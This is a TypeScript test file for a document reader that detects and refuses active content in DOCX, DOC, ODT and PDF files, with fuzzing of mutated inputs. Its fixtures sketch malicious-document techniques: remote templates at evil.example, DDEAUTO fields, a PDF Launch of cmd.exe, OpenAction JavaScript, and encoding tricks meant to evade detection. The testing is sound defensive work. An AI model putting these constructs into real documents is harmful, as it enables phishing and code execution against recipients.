import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import fc from 'fast-check'
import {
  compoundFile,
  doc,
  docx,
  objectStream,
  odt,
  odtText,
  pages,
  pdf,
  pdfWith,
  relation,
  relationships,
  wordText,
  wordTypes,
} from '../../../test/support/document-files.ts'
import { DirectoryError } from '../../errors.ts'
import { sentenceOf } from '../../faults/fault.ts'
import { readDocument } from '../documents.ts'

const elf = Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')
const override = (part: string, type: string): string =>
  `<Override PartName="${part}" ContentType="${type}"/>`
const vba = 'application/vnd.ms-office.vbaProject'
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')

/** Documents with active content, and what the reason must mention. */
const active: Readonly<Record<string, readonly [RegExp, Buffer]>> = {
  'docx: macros in their usual place': [/macros/, docx({ 'word/vbaProject.bin': 'x' })],
  'docx: macros in another folder': [/macros/, docx({ 'other/VBAPROJECT.BIN': 'x' })],
  'docx: macros under another name, by their type': [
    /macros/,
    docx({ '[Content_Types].xml': wordTypes(override('/word/style9.xml', vba)), 'word/style9.xml': 'x' }),
  ],
  'docx: macros by a default type': [
    /macros/,
    docx({ '[Content_Types].xml': wordTypes(`<Default Extension="dat" ContentType="${vba}"/>`) }),
  ],
  'docx: macros by a type written with character references': [
    /macros/,
    docx({ '[Content_Types].xml': wordTypes(override('/a', vba.replace('vba', '&#118;b&#x61;'))) }),
  ],
  'docx: macros by a type in UTF-16': [
    /macros/,
    docx({
      'word/settings.xml': '<a/>',
      'word/_rels/document.xml.rels': utf16(relationships(relation('vbaProject', 'x.bin', 'Internal'))),
    }),
  ],
  'docx: macros in a compound file under any name': [
    /macros/,
    docx({ 'word/media/image1.png': compoundFile({ VBA: { dir: Buffer.alloc(9) } }) }),
  ],
  'docx: a macro-enabled part beside a plain one': [
    /macros/,
    docx({
      '[Content_Types].xml': wordTypes(
        override('/word/document2.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      ),
    }),
  ],
  'docx: an embedded object by its folder': [
    /embedded object/,
    docx({ 'word/embeddings/oleObject1.bin': 'x' }),
  ],
  'docx: an embedded object by its content': [
    /embedded object/,
    docx({ 'word/media/image1.png': compoundFile({ '\x01Ole10Native': Buffer.alloc(9) }) }),
  ],
  'docx: an embedded object by its relationship': [
    /embedded object/,
    docx({ 'word/_rels/document.xml.rels': relationships(relation('oleObject', 'media/a.bin', 'Internal')) }),
  ],
  'docx: an ActiveX control': [/ActiveX/, docx({ 'word/activeX/activeX1.xml': '<a/>' })],
  'docx: a Windows program': [/Windows program/, docx({ 'word/media/image1.png': 'MZ\x90\0' })],
  'docx: a Linux program': [/Linux program/, docx({ 'word/media/image1.png': elf })],
  'docx: a macOS program': [
    /macOS program/,
    docx({ 'word/media/image1.png': Buffer.from('cffaedfe0c000001', 'hex') }),
  ],
  'docx: a script': [/script/, docx({ 'word/media/a.dat': '#!/bin/sh\n' })],
  'docx: a file with the name of a script': [/ending of a program/, docx({ 'word/media/a.vbs': 'MsgBox 1' })],
  'docx: a template loaded from elsewhere': [
    /template that is loaded from elsewhere \(https:\/\/evil\.example\/t\.dotm\)/,
    docx({
      'word/_rels/settings.xml.rels': relationships(
        relation('attachedTemplate', 'https://evil.example/t.dotm'),
      ),
    }),
  ],
  'docx: a template elsewhere that claims to be inside': [
    /loaded from elsewhere/,
    docx({
      'word/_rels/settings.xml.rels': relationships(
        relation('attachedTemplate', '\\\\evil.example\\t.dotm', 'Internal'),
      ),
    }),
  ],
  'docx: a frame loaded from elsewhere': [
    /frame/,
    docx({ 'word/_rels/webSettings.xml.rels': relationships(relation('frame', 'file://evil/share')) }),
  ],
  'docx: an object loaded from elsewhere': [
    /object that is loaded/,
    docx({ 'word/_rels/document.xml.rels': relationships(relation('oleObject', 'https://evil.example/x')) }),
  ],
  'docx: a document loaded from elsewhere': [
    /document that is loaded/,
    docx({
      'word/_rels/document.xml.rels': relationships(relation('subDocument', 'https://evil.example/x')),
    }),
  ],
  'docx: an image loaded from elsewhere': [
    /image that is loaded/,
    docx({ 'word/_rels/document.xml.rels': relationships(relation('image', 'https://evil.example/x.png')) }),
  ],
  'docx: an embedded document': [
    /embedded document/,
    docx({ 'word/_rels/document.xml.rels': relationships(relation('aFChunk', 'a.html', 'Internal')) }),
  ],
  'docx: a DDE field spread over runs': [
    /DDE/,
    docx({
      'word/footer1.xml': wordText(
        '<w:r><w:fldChar/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r>',
      ),
    }),
  ],
  'docx: a picture fetched by a field': [
    /field that is loaded/,
    docx({
      'word/footer1.xml': wordText(
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d"/>',
      ),
    }),
  ],
  'doc: macros': [/macros \(Macros\)/, doc({ Macros: { VBA: { dir: Buffer.alloc(9) } } })],
  'doc: macros deep inside': [/macros/, doc({ A: { B: { C: { _VBA_PROJECT: Buffer.alloc(9) } } } })],
  'doc: macros in streams of other names': [
    /macros/,
    doc({ Notes: Buffer.from('\x01\x16\xb0\0Attribut\0e VB_Nam\0e = ', 'latin1') }),
  ],
  'doc: an embedded object': [/embedded object/, doc({ ObjectPool: { _1: { Contents: Buffer.alloc(9) } } })],
  'doc: a package': [/embedded object/, doc({ X: { '\x01Ole10Native': Buffer.alloc(9) } })],
  'doc: an ActiveX control': [/ActiveX/, doc({ X: { '\x03OCXNAME': Buffer.alloc(9) } })],
  'doc: a template elsewhere': [/template/, doc({}, 'https://evil.example/t.dot')],
  'doc: a template on another computer': [/template/, doc({}, '\\\\evil\\share\\t.dot')],
  'doc: a DDE field': [/DDE/, doc({}, undefined, 0x200).fill('\x13 DDEAUTO c:\\x', 2048, 2064, 'latin1')],
  'doc: a picture fetched by a field': [
    /field that is loaded/,
    doc({}).fill('\x13 INCLUDEPICTURE "https://evil.example/x.png" \\d', 2048, 2095, 'latin1'),
  ],
  'doc: encrypted': [/encryption/, doc({}, undefined, 0x300)],
  'odt: macros': [/macros/, odt({ 'Basic/Standard/Module1.xml': '<module/>' })],
  'odt: scripts': [/macros/, odt({ 'Scripts/python/a.txt': 'x' })],
  'odt: macros of an embedded document': [/macros/, odt({ 'Object 1/Basic/script-lc.xml': '<a/>' })],
  'odt: an event': [
    /a script/,
    odt({
      'content.xml': odtText(
        '',
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script"/></office:event-listeners></office:scripts>',
      ),
    }),
  ],
  'odt: a script of another prefix': [
    /a script/,
    odt({ 'styles.xml': '<a xmlns:z="urn:x"><z:script language="JavaScript">1</z:script></a>' }),
  ],
  'odt: a link to a macro': [
    /a script/,
    odt({ 'content.xml': odtText('<text:a xlink:href="vnd.sun.star.script:A.B?language=Basic">a</text:a>') }),
  ],
  'odt: an object with a program': [/Windows program/, odt({ 'Object 1': 'MZ\x90\0' })],
  'odt: an OLE object': [/embedded object/, odt({ 'Object 1': compoundFile({ Contents: Buffer.alloc(9) }) })],
  'odt: a frame': [
    /frame/,
    odt({ 'content.xml': odtText('<draw:floating-frame xlink:href="https://evil.example/"/>') }),
  ],
  'odt: an image loaded from elsewhere': [
    /loaded from elsewhere/,
    odt({ 'content.xml': odtText('<draw:image xlink:href="https://evil.example/a.png"/>') }),
  ],
  'odt: a section loaded from elsewhere': [
    /loaded from elsewhere/,
    odt({ 'content.xml': odtText("<text:section-source xlink:href = '&#x68;ttps://evil.example/a.odt'/>") }),
  ],
  'odt: encrypted parts': [
    /encryption/,
    odt({
      'META-INF/manifest.xml': '<m:manifest><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>',
    }),
  ],
  'pdf: JavaScript at the start': [
    /JavaScript/,
    pdfWith('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
  ],
  'pdf: JavaScript by its name tree': [/JavaScript/, pdfWith('/Names<</JavaScript 4 0 R>>', '<</Names[]>>')],
  'pdf: JavaScript with an escaped name': [
    /JavaScript/,
    pdfWith('/OpenAction 4 0 R', '<</S/J#61vaScript/#4aS(x)>>'),
  ],
  'pdf: JavaScript in an object stream': [
    /JavaScript/,
    pdfWith('/OpenAction 9 0 R', objectStream({ 9: '<</S/JavaScript/JS(x)>>' })),
  ],
  'pdf: JavaScript in an object stream that does not say so': [
    /JavaScript/,
    pdfWith('', objectStream({ 9: '<</S/JavaScript/JS(x)>>' }, '')),
  ],
  'pdf: JavaScript in a later version': [
    /JavaScript/,
    Buffer.concat([
      pdfWith(''),
      Buffer.from(
        '1 0 obj <</Type/Catalog/OpenAction<</S/JavaScript/JS(x)>>>> endobj\nstartxref\n9\n%%EOF\n',
      ),
    ]),
  ],
  'pdf: JavaScript in an object inside a stream': [
    /JavaScript/,
    pdfWith('', '<</Length 60>>\nstream\n5 0 obj <</S/JavaScript/JS(x)>> endobj\nendstream'),
  ],
  'pdf: JavaScript behind a comment': [/JavaScript/, pdfWith('', '<</A(\\)>>)%>>\n/S/JavaScript /JS (x)>>')],
  'pdf: a program': [/starts a program/, pdfWith('', '<</Type/Action/S/Launch/F(cmd.exe)>>')],
  'pdf: a file that is opened at the start': [
    /starts by itself/,
    pdfWith('/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>'),
  ],
  'pdf: an address opened at the start, by reference': [
    /starts by itself/,
    pdfWith('/OpenAction 4 0 R', '5 0 R', '<</S/URI/URI(https://evil.example)>>'),
  ],
  'pdf: an address opened with a page': [
    /starts by itself/,
    pdf(['<</Type/Catalog/Pages 2 0 R>>', ...pages('/AA<</O<</S/URI/URI(https://evil.example)>>>>')]),
  ],
  'pdf: an action behind a harmless one': [
    /starts by itself/,
    pdfWith('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://evil.example)>>]>>'),
  ],
  'pdf: an embedded file': [/embedded file/, pdfWith('/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>')],
  'pdf: an XFA form': [/XFA/, pdfWith('/AcroForm<</Fields[]/XFA[(a)4 0 R]>>')],
  'pdf: rich media': [/rich media/, pdfWith('', '<</Type/Annot/Subtype/RichMedia>>')],
  'pdf: a form that is sent': [/sends data/, pdfWith('', '<</S/SubmitForm/F(https://evil.example)>>')],
  'pdf: data taken in': [/takes in data/, pdfWith('', '<</S/ImportData/F(x.fdf)>>')],
  'pdf: encrypted': [
    /encryption/,
    pdf(['<</Type/Catalog/Pages 2 0 R>>', ...pages()], '/Encrypt<</Filter/Standard>>'),
  ],
  'pdf: packed so that it cannot be looked into': [
    /cannot be looked into/,
    pdfWith('', objectStream({ 9: '<</S/JavaScript>>' }, '/Type/ObjStm', '/Filter[/LZWDecode]')),
  ],
}

for (const [what, [reason, bytes]] of Object.entries(active)) {
  test(`${what}: refused with the reason, or taken with it`, () => {
    assert.throws(
      () => readDocument(null, bytes),
      (error: unknown) =>
        error instanceof DirectoryError &&
        error.code === 'unsupported_type' &&
        error.details.length === 1 &&
        error.details[0]!.code === 'active_content' &&
        reason.test(sentenceOf(error.details[0]!)),
    )
    const { derived } = readDocument(null, bytes, 'flag')
    assert.match(derived.document_warnings!.join(), reason)
  })
}

/** Documents with similar but passive content. */
const harmless: Readonly<Record<string, Buffer>> = {
  'docx: a link': docx({
    'word/_rels/document.xml.rels': relationships(relation('hyperlink', 'https://example.com/')),
  }),
  'docx: text about macros': docx({
    'word/document.xml': wordText('<w:p>vbaProject DDEAUTO &lt;script&gt;</w:p>'),
  }),
  'docx: a page number': docx({ 'word/footer1.xml': wordText('<w:instrText> PAGE </w:instrText>') }),
  'doc: an empty pool of objects': doc({ ObjectPool: {} }),
  'doc: the template of the author': doc({}, 'C:\\Users\\Ann\\Templates\\Menu.dot'),
  'odt: no scripts, a link, a picture and a formula inside': odt({
    'content.xml': odtText(
      '<text:a xlink:href="https://example.com/">a</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>',
    ),
    'Object 1/content.xml': '<math/>',
    'Pictures/a.png': '\x89PNG',
  }),
  'pdf: going to a page': pdfWith('/OpenAction[3 0 R/Fit]/AA<</WC<</S/Named/N/FirstPage>>>>'),
  'pdf: going to a page by reference': pdfWith('/OpenAction 4 0 R', '<</S/GoTo/D[3 0 R/Fit]>>'),
  'pdf: a link': pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    ...pages('/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.com)>>>>]'),
  ]),
  'pdf: text about scripts': pdfWith(
    '',
    '<</Title(/JavaScript \\(/JS\\) /Launch)/Sub<2F4A53>>> % /OpenAction /JS',
  ),
  'pdf: packed objects': pdfWith('', objectStream({ 9: '<</Type/Font>>', 10: '[/A/B]' })),
  'pdf: a drawing with such words': pdfWith('', '<</Length 20>>\nstream\n(/JS) Tj /JS gs /AA\nendstream'),
}

for (const [what, bytes] of Object.entries(harmless)) {
  test(`${what}: taken without a warning`, () => {
    assert.equal(readDocument(null, bytes).derived.document_warnings, undefined)
  })
}

test('cut and mutated documents with all that is looked for are accepted or refused, never anything else', () => {
  const real = ['pdf', 'doc', 'odt', 'docx'].map((kind) =>
    readFileSync(new URL(`../../../test/fixtures/media/menu.${kind}`, import.meta.url)),
  )
  const originals = [...real, ...Object.values(active).map(([, bytes]) => bytes), ...Object.values(harmless)]
  const change = fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.nat(255))
  fc.assert(
    fc.property(
      fc.constantFrom(...originals),
      fc.array(change, { minLength: 1, maxLength: 20 }),
      fc.double({ min: 0, max: 1, noNaN: true }),
      fc.double({ min: 0, max: 1, noNaN: true }),
      (original, changes, from, to) => {
        const mutant = Buffer.from(original)
        for (const [where, value] of changes) mutant[Math.floor(where * (mutant.length - 1))] = value
        const at = Math.floor(from * mutant.length)
        const repeated = Buffer.concat([
          mutant.subarray(0, at),
          mutant.subarray(Math.floor(to * mutant.length)),
        ])
        for (const bytes of [mutant, mutant.subarray(0, at), repeated]) {
          try {
            const { derived } = readDocument(null, bytes, 'flag')
            assert.ok((derived.document_warnings?.length ?? 1) > 0)
          } catch (error) {
            assert.ok(error instanceof DirectoryError, String((error as Error).stack))
          }
        }
      },
    ),
    { numRuns: 1500 },
  )
})
